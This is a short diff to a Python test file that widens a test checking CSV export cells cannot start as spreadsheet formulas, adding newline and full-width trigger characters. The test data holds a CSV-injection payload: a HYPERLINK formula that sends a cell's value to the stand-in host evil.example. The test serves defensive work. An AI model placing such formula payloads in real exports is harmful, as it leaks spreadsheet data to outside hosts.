@@ -141,7 +141,7 @@ def test_gradio_is_past_its_known_holes():
     assert least >= (6, 31)
 
 
-@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("first", [*"=+-@\t\r\n", *"\uff1d\uff0b\uff0d\uff20"])
 def test_no_cell_of_a_csv_is_a_formula(tmp_path, first):
     """Prompts, answers, names and rationales alike; numbers and lists stay what they are."""
     hostile = f'{first}HYPERLINK("https://evil.example?"&A1,"x")'
